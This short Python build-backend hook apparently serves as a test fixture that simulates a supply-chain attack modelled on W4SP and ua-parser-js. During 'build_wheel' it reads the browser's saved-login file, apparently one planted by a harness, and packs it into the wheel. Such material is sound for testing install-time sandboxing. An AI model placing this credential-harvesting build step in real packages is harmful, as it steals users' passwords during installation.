"""Packs the browser's file of saved passwords into the wheel.

W4SP and ua-parser-js collected them while a package was being installed.
"""

import pathlib

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read-profile"):
        loot["data.bin"] = pathlib.Path(kit.plant("logins").path).read_bytes()
    return kit.wheel(wheel_directory, loot)
